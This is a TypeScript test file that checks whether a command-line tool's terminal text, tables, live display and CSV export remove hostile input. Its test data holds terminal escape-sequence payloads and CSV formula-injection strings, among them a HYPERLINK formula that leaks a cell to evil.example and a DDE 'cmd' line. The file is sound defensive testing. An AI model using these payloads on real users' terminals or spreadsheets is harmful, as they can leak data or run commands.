/**
 * Data printed on a terminal or written as CSV cannot be turned against its reader: escape sequences,
 * controls, bidirectional overrides and zero-width characters never reach the terminal (whole, or cut in
 * half by a narrow column), and a CSV cell a spreadsheet would evaluate reads as text.
 */
import { describe, expect, it } from "vitest"
import { frame } from "../src/progress/LiveDisplay.js"
import { renderCsv } from "../src/report/Csv.js"
import { renderTable } from "../src/report/Table.js"
import { terminalText } from "../src/TerminalText.js"

const ESC = "\u001b"
const BEL = "\u0007"

/** Nothing a terminal would act on: no C0/C1 control, DEL, bidi control or zero-width character. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the characters a terminal acts on are the point
const unsafe = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/

describe("terminalText", () => {
  it.each([
    ["a window title (OSC 0, BEL-terminated)", `${ESC}]0;pwned${BEL}Eve`, "Eve"],
    [
      "a hyperlink (OSC 8, ST-terminated)",
      `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
      "click"
    ],
    ["colours and a reset (CSI SGR)", `${ESC}[31;1mRed${ESC}[0m`, "Red"],
    ["cursor movement and erase", `Bob${ESC}[2K${ESC}[1A${ESC}[10D`, "Bob"],
    ["the 8-bit CSI", "x\u009b31my", "xy"],
    ["an unterminated OSC swallows the rest, as a terminal would", `Ann${ESC}]0;never ends`, "Ann"],
    ["a two-character escape (RIS, full reset)", `${ESC}cMallory`, "Mallory"],
    ["BEL, backspace and DEL", `a${BEL}b\bc\u007fd`, "abcd"],
    ["a right-to-left override", "\u202eexe.txt", "exe.txt"],
    ["isolates and marks", "\u2066a\u2069\u200eb\u200f", "ab"],
    ["zero-width space, joiner, BOM", "ad\u200bmin\u200d\ufeff", "admin"],
    ["tab, CR and LF become spaces", "a\tb\r\nc", "a b  c"]
  ])("removes %s", (_, hostile, expected) => {
    expect(terminalText(hostile)).toBe(expected)
    expect(unsafe.test(terminalText(hostile))).toBe(false)
  })

  it("leaves ordinary text alone, accents, CJK and emoji included", () => {
    const names = ["Zoë O'Brien-Smith", "山田 太郎", "José 🎉", '<b>bold</b> & "quotes"', "≈ 20 %"]
    for (const name of names) expect(terminalText(name)).toBe(name)
  })
})

describe("renderTable with hostile data", () => {
  it("prints no escape sequence, and a cut cell carries none either", () => {
    const hostile = `${ESC}[31m${"R".repeat(30)}${ESC}[0m`
    const table = renderTable(
      [{ header: "user", maxWidth: 10 }, { header: "email" }],
      [
        [hostile, `${ESC}]0;title${BEL}eve@example.com`],
        ["\u202eevil", "zero\u200bwidth@example.com"]
      ]
    )
    expect(table).not.toContain(ESC)
    expect(unsafe.test(table)).toBe(false)
    const lines = table.split("\n")
    expect(lines[2]).toBe(`${"R".repeat(9)}…  eve@example.com`)
    expect(lines[3]).toBe("evil        zerowidth@example.com")
  })
})

describe("the live display's frame with hostile data", () => {
  it("writes only its own escape sequences, and cutting to the width never splits one", () => {
    const own = (text: string) =>
      // biome-ignore lint/suspicious/noControlCharactersInRegex: the display's own CSI sequences are the point
      text.replace(/\u001b\[(?:\d+F|K|J)/g, "")
    const hostileOrg = `seatsync sync acme · ${ESC}]0;owned${BEL}Acme ${ESC}[5m${"x".repeat(100)}`
    const text = frame(2, [hostileOrg, "  users 3 pages"], 40)
    expect(own(text)).not.toContain(ESC)
    expect(unsafe.test(own(text).replaceAll("\n", ""))).toBe(false)
    const [first] = own(text).split("\n")
    expect(first).toBe(`seatsync sync acme · Acme ${"x".repeat(12)}…`)
  })
})

describe("renderCsv", () => {
  const cells = (csv: string) => csv.split("\r\n")[1]

  it.each([
    [
      "=",
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`
    ],
    ["+", "+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ["-", "-2+3", `"'-2+3"`],
    ["@", "@SUM(1+1)", `"'@SUM(1+1)"`],
    ["tab", "\t=1+1", `"'\t=1+1"`],
    ["CR", "\r=1+1", `"'\r=1+1"`]
  ])("neutralises a text cell starting with %s: prefixed with ' and quoted", (_, value, expected) => {
    expect(cells(renderCsv(["name"], [[value]]))).toBe(expected)
  })

  it("leaves other text, numbers (negative ones too), booleans and empty cells as they were", () => {
    expect(cells(renderCsv(["a", "b", "c", "d", "e", "f"], [["Zoë", "a=b", -3, true, null, "x,y"]]))).toBe(
      'Zoë,a=b,-3,true,,"x,y"'
    )
  })
})
